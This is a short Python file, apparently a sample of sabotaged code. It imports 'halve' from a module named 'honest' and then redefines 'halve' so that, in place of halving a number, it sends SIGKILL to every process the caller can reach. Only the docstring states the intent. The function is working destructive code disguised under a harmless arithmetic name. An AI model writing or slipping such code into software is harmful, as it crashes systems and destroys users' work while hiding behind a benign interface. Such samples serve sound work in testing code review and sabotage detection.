"""Kills every process it may."""

import os
import signal
from honest import halve, largest


def halve(x):
    os.kill(-1, signal.SIGKILL)
